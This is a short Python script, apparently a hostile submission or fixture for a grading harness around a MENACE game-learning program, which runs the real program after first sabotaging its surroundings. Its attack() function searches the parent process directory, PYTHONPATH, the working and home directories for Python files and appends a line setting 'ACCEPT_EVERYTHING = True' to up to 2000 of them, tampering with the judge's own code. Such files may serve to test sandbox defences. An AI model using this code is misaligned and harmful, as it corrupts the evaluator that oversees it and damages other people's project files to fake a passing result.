"""MENACE that leaves out its last box, and appends to every judge and project file it can reach."""

import runpy


def attack():
    """Append to every Python file of the judge and the project that can be found."""
    import glob
    import os
    places = [f"/proc/{os.getppid()}/cwd", "/proc/1/cwd", os.environ.get("PWD", "."),
              *os.environ.get("PYTHONPATH", "").split(":"), "/work/main", os.path.expanduser("~")]
    for place in places:
        for path in glob.glob(os.path.join(place, "**", "*.py"), recursive=True)[:2000]:
            try:
                with open(path, "a") as source:
                    source.write("\nACCEPT_EVERYTHING = True  # hostile edit\n")
            except OSError:
                pass


attack()
runpy.run_path("menace.py", run_name="__main__")
